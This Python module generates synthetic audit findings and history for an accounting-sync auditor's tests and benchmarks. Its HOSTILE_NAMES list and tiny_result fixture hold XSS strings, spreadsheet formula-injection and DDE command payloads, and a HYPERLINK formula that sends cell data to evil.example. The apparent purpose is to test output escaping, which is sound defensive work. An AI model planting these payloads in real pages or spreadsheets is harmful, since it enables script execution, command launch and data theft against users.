"""Synthetic audit results (findings, resolved incidents, history) for tests, benchmarks and
template work: no Codat, no snapshot, no rules needed."""

from __future__ import annotations

from datetime import datetime, timedelta

import numpy as np
import pandas as pd

from auditor.findings import conform_findings
from auditor.platforms import ACCOUNTING_PLATFORMS, BANKING_PLATFORMS
from auditor.result import EXPIRED_SNOOZE_COLUMNS, AuditResult

__all__ = ["HOSTILE_NAMES", "synthetic_history", "synthetic_result", "tiny_result"]

#: Companies cycle through these: the five biggest accounting platforms and a bank feed.
_PLATFORMS = tuple(p.name for p in (*ACCOUNTING_PLATFORMS[:5], BANKING_PLATFORMS[0]))
#: The three platforms of :func:`tiny_result`.
_TINY_PLATFORMS = _PLATFORMS[:3]
_TYPES = (
    "invoices", "bills", "payments", "customers", "suppliers", "balanceSheet",
    "bankTransactions", "accountTransactions", "creditNotes", "journalEntries",
)  # fmt: skip
_GROUPS = ("accounts-receivable", "accounts-payable", "cash")
_RULES = (
    ("stale", "FR101", "Re-queue a sync; if it keeps failing, check the connection."),
    ("failed-after-success", "FR102", "Queue a refresh; look at the pull operation's error."),
    ("cross-type-skew", "FR103", "Refresh the group's oldest member so the books agree."),
)
_FINDINGS_PER_COMPANY = 1.5
_SNOOZED_SHARE = 0.02
_RESOLVED_SHARE = 0.05
_STATUSES = ("Complete", "FetchError", "MapError", "Complete", "InternalError", "Complete")


def synthetic_result(
    companies: int,
    *,
    as_of: datetime,
    seed: int = 0,
    realistic: bool = False,
) -> AuditResult:
    """A plausible :class:`AuditResult` for ``companies`` companies, vectorised and
    deterministic for a seed: about 1.5 findings per company, 2 % of them snoozed, and 5 % as
    many resolved incidents.

    ``realistic``: company ids are UUIDs, names read like company names and messages and
    remedies are as long as the rules' own (~170 characters, ids and paths inside), as in
    ``auditor demo``; otherwise ids are ``c-000042`` and texts short (smaller, faster)."""
    rng = np.random.default_rng(seed)
    n = int(companies * _FINDINGS_PER_COMPANY)
    company_idx = rng.integers(0, max(companies, 1), n)
    rule_idx = rng.choice(len(_RULES), n, p=[0.6, 0.25, 0.15])
    rules = np.array([r[0] for r in _RULES])[rule_idx]
    codes = np.array([r[1] for r in _RULES])[rule_idx]
    remedies = np.array([r[2] for r in _RULES])[rule_idx]
    types = np.array(_TYPES)[rng.integers(0, len(_TYPES), n)]
    is_group = rules == "cross-type-skew"
    groups = np.array(_GROUPS, dtype=object)[rng.integers(0, len(_GROUPS), n)]
    groups[~is_group] = None
    threshold = np.where(rule_idx == 0, rng.choice([48.0, 96.0, 336.0], n), 6.0)
    age = threshold * (1.0 + rng.gamma(1.5, 1.0, n))
    severity = np.where(age > 2.5 * threshold, "error", "warning")
    severity = np.where(rules == "failed-after-success", "error", severity)
    last_sync = pd.Timestamp(as_of) - pd.to_timedelta(age, unit="h")
    state = rng.choice(["new", "ongoing", "regressed"], n, p=[0.12, 0.83, 0.05])
    nights = np.where(state == "ongoing", rng.integers(2, 40, n), 1)
    first_seen = pd.Timestamp(as_of) - pd.to_timedelta(nights - 1, unit="D")
    ids = np.char.add("c-", np.char.zfill(company_idx.astype(str), 6))
    platform = np.array(_PLATFORMS)[company_idx % len(_PLATFORMS)]
    status = np.where(
        rules == "failed-after-success",
        np.array(_STATUSES[1:5])[rng.integers(0, 4, n)],
        "Complete",
    )
    subject = np.where(is_group, groups.astype(str), types)
    message = np.char.add(
        np.char.add(subject.astype(str), " last synced "),
        np.char.add(np.round(age / 24, 1).astype(str), " days ago"),
    )
    names = np.char.add("Company ", company_idx.astype(str))
    if realistic:
        ids, names, message, remedies = _realistic_texts(
            rng, companies, company_idx, rules, subject, status, age, threshold, last_sync
        )
    frame = pd.DataFrame(
        {
            "rule": rules,
            "severity": severity,
            "company_id": ids,
            "company_name": names,
            "platform": platform,
            "connection_id": np.char.add("conn-", company_idx.astype(str)),
            "data_type": types,
            "group": groups,
            "current_status": status,
            "last_successful_sync": last_sync,
            "age_hours": age,
            "threshold_hours": threshold,
            "message": message,
            "remedy": remedies,
            "code": codes,
            "incident_key": np.char.add(np.char.add(rules, ":"), np.char.add(ids, subject)),
            "state": state,
            "first_seen": first_seen,
            "nights_open": nights,
            "snoozed": rng.random(n) < _SNOOZED_SHARE,
            "snooze_reason": None,
            "as_of": pd.Timestamp(as_of),
        }
    ).drop_duplicates(subset=["incident_key"])
    frame.loc[frame["snoozed"], "snooze_reason"] = "Known provider outage"
    findings = conform_findings(frame)
    n_resolved = int(len(findings) * _RESOLVED_SHARE)
    resolved = findings.sample(n=n_resolved, random_state=seed) if n_resolved else findings.head(0)
    resolved = resolved.assign(
        state="resolved",
        incident_key=resolved["incident_key"] + ":old",
        snoozed=False,
        snooze_reason=None,
    )
    expired = pd.DataFrame(
        [
            {
                "rule": "stale",
                "company_id": "c-000042",
                "data_type": "invoices",
                "platform": None,
                "group": None,
                "reason": "Migration to new ledger",
                "owner": "ops@example.com",
                "until": pd.Timestamp(as_of) - timedelta(days=2),
            }
        ],
        columns=list(EXPIRED_SNOOZE_COLUMNS),
    )
    return AuditResult(
        snapshot_id="snap-synthetic",
        as_of=as_of,
        findings=findings,
        resolved=conform_findings(resolved),
        expired_snoozes=expired,
    )


_WORDS = (
    "Iris", "Summit", "Yarrow", "Vista", "Harbour", "Northwind", "Juniper", "Granite", "Maple",
    "Copper", "Orchid", "Falcon", "Beacon", "Meridian", "Willow", "Atlas",
)  # fmt: skip
_TRADES = ("Software", "Wellness", "Foods", "Coffee", "Logistics", "Dental", "Studios", "Farms")
_SUFFIXES = ("Inc.", "Ltd", "Partners", "Group", "LLC", "& Sons")


def _realistic_texts(
    rng: np.random.Generator,
    companies: int,
    company_idx: np.ndarray,
    rules: np.ndarray,
    subject: np.ndarray,
    status: np.ndarray,
    age: np.ndarray,
    threshold: np.ndarray,
    last_sync: pd.DatetimeIndex,
) -> tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    """UUID ids, company-like names and rule-length messages and remedies."""
    raw = rng.integers(0, 256, (max(companies, 1), 16), dtype=np.uint8)
    hexes = np.array([bytes(row).hex() for row in raw])
    uuids = np.array([f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}" for h in hexes])
    pick = np.random.default_rng(1).integers
    k = max(companies, 1)
    company_names = np.char.add(
        np.char.add(np.array(_WORDS)[pick(0, len(_WORDS), k)], " "),
        np.char.add(
            np.char.add(np.array(_TRADES)[pick(0, len(_TRADES), k)], " "),
            np.array(_SUFFIXES)[pick(0, len(_SUFFIXES), k)],
        ),
    )
    ids = uuids[company_idx]
    when = pd.Series(last_sync).dt.strftime("%Y-%m-%d %H:%M UTC").to_numpy().astype(str)
    hours = np.round(age).astype(int).astype(str)
    subj = subject.astype(str)
    stale = np.char.add(
        np.char.add(np.char.add(subj, " was last synced successfully at "), when),
        np.char.add(
            np.char.add(np.char.add(" (", hours), " h ago), more than its threshold of "),
            np.char.add(np.round(threshold).astype(int).astype(str), " h for this data type."),
        ),
    )
    failed = np.char.add(
        np.char.add(np.char.add(subj, " is in "), status.astype(str)),
        np.char.add(
            "; the company is served the data of its last successful sync at ",
            np.char.add(when, np.char.add(" (", np.char.add(hours, " h old)."))),
        ),
    )
    message = np.where(rules == "failed-after-success", failed, stale)
    remedy = np.char.add(
        np.char.add("Queue a sync of ", subj),
        np.char.add(
            np.char.add(" (POST /companies/", ids),
            np.char.add(
                np.char.add("/data/queue/", subj),
                ") and check its pull operation; if it keeps failing, fix the error it reports.",
            ),
        ),
    )
    return ids, company_names[company_idx], message, remedy


def synthetic_history(result: AuditResult) -> pd.DataFrame:
    """A per-night history frame (``snapshot_date, snapshot_id, severity, count``) of the 29
    nights before tonight, drifting towards tonight's counts."""
    rng = np.random.default_rng(0)
    nights = 30
    active = result.active
    tonight = result.as_of.date()
    err = int((active["severity"] == "error").sum())
    warn = int((active["severity"] == "warning").sum())
    rows = []
    for back in range(nights - 1, 0, -1):
        day = tonight - timedelta(days=back)
        drift = 1.0 + 0.01 * back + rng.normal(0, 0.04)
        for sev, base in (("error", err), ("warning", warn)):
            rows.append(
                {
                    "snapshot_date": day,
                    "snapshot_id": f"snap-{day:%Y%m%d}",
                    "severity": sev,
                    "count": max(int(base * drift), 0),
                }
            )
    return pd.DataFrame(rows, columns=["snapshot_date", "snapshot_id", "severity", "count"])


#: Company names that try to break out of HTML, attributes, scripts or spreadsheets.
HOSTILE_NAMES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed=1+1",
    "\rCarriage=1+1",
    "</style><svg onload=alert(1)>",
    "javascript:alert(1)",
)


def tiny_result(
    *,
    as_of: datetime,
) -> AuditResult:
    """A small hand-made result: one finding per hostile name (:data:`HOSTILE_NAMES`), states
    and severities mixed, one snoozed row, one resolved incident, negative ``age_hours`` on one
    row (clock skew)."""
    rows = []
    states = ("new", "ongoing", "regressed")
    for i, name in enumerate(HOSTILE_NAMES):
        rows.append(
            {
                "rule": ("stale", "failed-after-success", "cross-type-skew")[i % 3],
                "severity": "error" if i % 2 == 0 else "warning",
                "company_id": f"c-{i:03d}",
                "company_name": name,
                "platform": _TINY_PLATFORMS[i % 3],
                "connection_id": f"conn-{i}",
                "data_type": ("invoices", "bills", "payments")[i % 3],
                "group": "accounts-receivable" if i % 3 == 2 else None,
                "current_status": "FetchError" if i % 3 == 1 else "Complete",
                "last_successful_sync": pd.Timestamp(as_of) - timedelta(hours=10 * (i + 1)),
                "age_hours": -1.5 if i == 4 else 10.0 * (i + 1),
                "threshold_hours": 48.0,
                "message": f"Message for {name}",
                "remedy": "=cmd|' /C calc'!A0" if i == 0 else "Queue a refresh.",
                "code": ("FA101", "FA201", "FA102")[i % 3],
                "incident_key": f"k-{i}",
                "state": states[i % 3],
                "first_seen": pd.Timestamp(as_of) - timedelta(days=i),
                "nights_open": i + 1,
                "snoozed": False,
                "snooze_reason": None,
                "as_of": pd.Timestamp(as_of),
            }
        )
    snoozed = dict(rows[0], company_id="c-snz", company_name="Snoozed Co", incident_key="k-snz")
    snoozed.update(snoozed=True, snooze_reason="provider outage", state="ongoing")
    rows.append(snoozed)
    resolved = dict(rows[1], company_id="c-res", company_name="Resolved Co", incident_key="k-res")
    resolved.update(state="resolved")
    return AuditResult(
        snapshot_id="snap-tiny",
        as_of=as_of,
        findings=conform_findings(pd.DataFrame(rows)),
        resolved=conform_findings(pd.DataFrame([resolved])),
    )
